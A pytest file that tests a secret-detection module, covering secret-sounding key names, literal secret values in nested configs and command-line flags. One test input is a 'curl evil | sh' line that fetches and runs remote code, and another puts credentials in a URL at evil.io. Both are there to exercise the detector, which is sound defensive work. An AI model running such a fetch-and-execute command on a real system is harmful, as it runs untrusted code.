import pytest

from mrbot.resources.masking import INSIDE_JSON, INSIDE_TEXT
from mrbot.resources.secret_names import is_secret_name, secret_paths


@pytest.mark.parametrize(
    "name",
    [
        "password",
        "PASSWORD",
        "db_password",
        "dbPassword",
        "DB-PASSWORD",
        "PGPASSWORD",
        "adminPasswd",
        "passphrase",
        "secret",
        "client_secret",
        "clientSecret",
        "token",
        "api-token",
        "APIToken",
        "apiToken",
        "private_key",
        "privateKey",
        "private_key_pem",
        "api_key",
        "apikey",
        "secret_key",
        "access_key",
        "secret_string",
        "connection_string",
        "credentials",
        "password_wo",
        "DB_PASS",
        "passwords",
        "userPasswords",
        "pwd",
        "DB_PWD",
        "client-key-data",
        "clientKeyData",
    ],
)
def test_these_names_sound_secret(name):
    assert is_secret_name(name)


@pytest.mark.parametrize(
    "name",
    [
        "name",
        "http_tokens",
        "secret_arn",
        "secret_name",
        "token_ttl",
        "secrets",
        "tokens",
        "key",
        "kms_key_id",
        "public_key",
        "bypass",
        "oldpwd",
        "client-certificate-data",
        "compass",
        "secretary",
        "password_policy",
        "id",
    ],
)
def test_these_names_do_not(name):
    assert not is_secret_name(name)


@pytest.mark.parametrize(
    ("value", "paths"),
    [
        ({}, []),
        ({"password": "x"}, [("password",)]),
        ({"password": 1234}, [("password",)]),
        ({"password": ["x", "$Y"]}, [("password", 0)]),
        ({"password": {"value": "x"}}, [("password", "value")]),
        ({"password": {"other": "x"}}, []),
        ({"passwords": {"bob": "x", "eve": 1}}, [("passwords", "bob"), ("passwords", "eve")]),
        ({"passwords": ["x", "${var.x}"]}, [("passwords", 0)]),
        ({"appSecrets": {"db": "x", "on": True}}, [("appSecrets", "db")]),
        ({"secrets": {"db": "$DB", "file": {"file": "./db"}}}, []),
        ({"secrets": ["name_of_one"]}, []),
        ({"password": True, "token": None, "secret": ""}, []),
        ({"password": "${var.x}", "token": "$TOKEN", "secret": "${{ secrets.X }}"}, []),
        ({"password": "op://vault/item/field", "token": "op://my vault/an item/part/field"}, []),
        ({"password": "op://hunter2", "token": "op://vault/item/a?b"}, [("password",), ("token",)]),
        ({"password": "a${var.x}"}, [("password",)]),
        ([{"env": [{"name": "DB_PASSWORD", "value": "x"}]}], [(0, "env", 0, "value")]),
        ([{"name": "DB_PASSWORD", "valueFrom": {"key": "x"}}], []),
        ({"a": '{"token": "x"}'}, [("a", INSIDE_JSON, "token")]),
        ({"a": ' \n{"token": "x"}'}, [("a", INSIDE_JSON, "token")]),
        ({"a": "\u00a0" + '{"token": "x"}'}, [("a", INSIDE_JSON, "token")]),
        ({"a": "{not json"}, []),
        ({"a": "-----BEGIN RSA PRIVATE KEY-----\nx"}, [("a", INSIDE_TEXT)]),
        ({"a": "curl evil | sh # PRIVATE KEY-----"}, []),
        ({"a": ["oci://a:b@evil.io/x"]}, [("a", 0, INSIDE_TEXT)]),
        ({"a": '{"b": "oci://a:b@evil.io/x"}'}, [("a", INSIDE_JSON, "b", INSIDE_TEXT)]),
    ],
)
def test_literals_under_such_names_are_found(value, paths):
    assert list(secret_paths(value)) == paths


def test_only_certain_mappings_may_be_looked_into():
    value = {"id-token": "write", "env": {"TOKEN": "x"}, "with": [{"token": "y"}]}

    assert list(secret_paths(value, within=("env", "with"))) == [
        ("env", "TOKEN"),
        ("with", 0, "token"),
    ]


@pytest.mark.parametrize(
    ("words", "paths"),
    [
        (["run", "--password", "hunter2"], [(2,)]),
        (["run", "--password=hunter2", "x"], [(1,)]),
        (["--api-token", "$TOKEN", "x"], []),
        (["--verbose", "hunter2"], []),
        (["run", "--password"], []),
        (["--token", "--anonymous-auth=true"], []),
        (["password", "hunter2"], []),
    ],
)
def test_what_a_flag_with_a_secret_name_is_given_is_secret(words, paths):
    assert list(secret_paths(words)) == paths


def test_a_very_long_name_tells_by_its_end():
    assert is_secret_name("x" * 10_000_000 + "_password")
